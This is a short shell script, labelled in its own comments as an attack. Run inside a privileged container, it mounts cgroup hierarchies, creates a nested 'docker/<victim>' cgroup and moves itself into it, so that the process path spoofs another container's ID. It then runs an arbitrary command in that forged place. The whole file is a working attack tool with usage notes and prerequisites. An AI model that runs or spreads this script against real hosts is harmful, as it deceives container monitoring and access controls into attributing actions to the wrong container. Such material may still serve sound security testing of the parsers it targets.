# Attack: make a cgroup "docker/<victim>" below this container's own and move
# into it, so that the path ends in the victim's ID although the process never
# left its container. It deceives a parser that takes the last ID of the path.
#
#   sh -c "$script" sh VICTIM-ID COMMAND...    runs COMMAND in the forged place
#
# Needs CAP_SYS_ADMIN and no AppArmor profile, to mount; a private cgroup
# namespace does not prevent it. A container that runs a dockerd of its own has
# such paths honestly. Standard error says in how many hierarchies it
# succeeded; if that is none, the exit status is 99 and COMMAND is not run.
victim=$1
shift
moved=0
total=0
while IFS=: read -r _ controllers own; do
  case $controllers in
  '') type=cgroup2 options=rw name=unified ;;
  name=*) type=cgroup options=none,$controllers name=${controllers#name=} ;;
  *) type=cgroup options=$controllers name=$controllers ;;
  esac
  total=$((total + 1))
  mnt=/tmp/cgroup/$name
  mkdir -p "$mnt"
  mount -t "$type" -o "$options" cgroup "$mnt" || continue
  # A new cpuset has no CPUs and takes no process, unless it copies them.
  [ ! -e "$mnt$own/cgroup.clone_children" ] || echo 1 >"$mnt$own/cgroup.clone_children"
  mkdir -p "$mnt${own%/}/docker/$victim"
  echo $$ >"$mnt${own%/}/docker/$victim/cgroup.procs" && moved=$((moved + 1))
done </proc/self/cgroup 2>/dev/null
echo "nest: moved in $moved of $total hierarchies" >&2
[ "$moved" -gt 0 ] || exit 99
exec "$@"
